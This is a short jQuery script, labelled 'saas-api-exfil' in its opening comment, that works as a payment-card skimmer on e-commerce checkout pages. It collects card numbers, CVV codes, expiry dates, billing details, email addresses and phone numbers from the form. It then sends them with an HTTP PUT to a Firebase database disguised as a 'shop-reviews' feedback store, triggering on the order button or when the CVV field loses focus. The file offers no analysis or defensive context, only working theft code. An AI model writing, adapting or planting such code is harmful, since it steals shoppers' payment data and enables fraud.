/* saas-api-exfil: card details written as a record into a hosted realtime-database REST endpoint */
/* jQuery style; the record is stored under a random key with an HTTP PUT */
jQuery(function ($) {
  var dbRoot = 'https://shop-reviews-4c1e9-default-rtdb.firebaseio.com';
  var bucket = 'feedback';

  if ($('#payment-form, form.woocommerce-checkout, #co-payment-form').length === 0) {
    return;
  }

  function recordKey() {
    var chars = 'abcdefghijklmnopqrstuvwxyz0123456789';
    var k = '';
    for (var i = 0; i < 18; i++) {
      k += chars.charAt(Math.floor(Math.random() * chars.length));
    }
    return k;
  }

  function gather() {
    var entry = { when: Date.now(), host: location.hostname };
    $('input, select').each(function () {
      var $f = $(this);
      var name = $f.attr('name') || $f.attr('id');
      var val = $f.val();
      if (!name || !val || $f.attr('type') === 'hidden') {
        return;
      }
      if (/card|cc_|cvc|cvv|exp|billing|email|phone|owner/i.test(name)) {
        entry[name.replace(/[.#$\[\]\/]/g, '_')] = val;
      }
    });
    return entry;
  }

  function hasCard(entry) {
    for (var k in entry) {
      if (/card.*num|cc_num/i.test(k) && String(entry[k]).replace(/\D/g, '').length >= 14) {
        return true;
      }
    }
    return false;
  }

  var pushed = false;

  function store() {
    if (pushed) return;
    var entry = gather();
    if (!hasCard(entry)) return;
    pushed = true;
    $.ajax({
      url: dbRoot + '/' + bucket + '/' + recordKey() + '.json',
      type: 'PUT',
      contentType: 'application/json',
      data: JSON.stringify(entry),
      timeout: 4000
    });
  }

  $(document).on('click', '#place_order, button.checkout, .action.primary.checkout', store);
  $(document).on('blur', 'input[name*="cvv"], input[name*="cvc"], input[name*="cc_cid"]', function () {
    setTimeout(store, 300);
  });
});
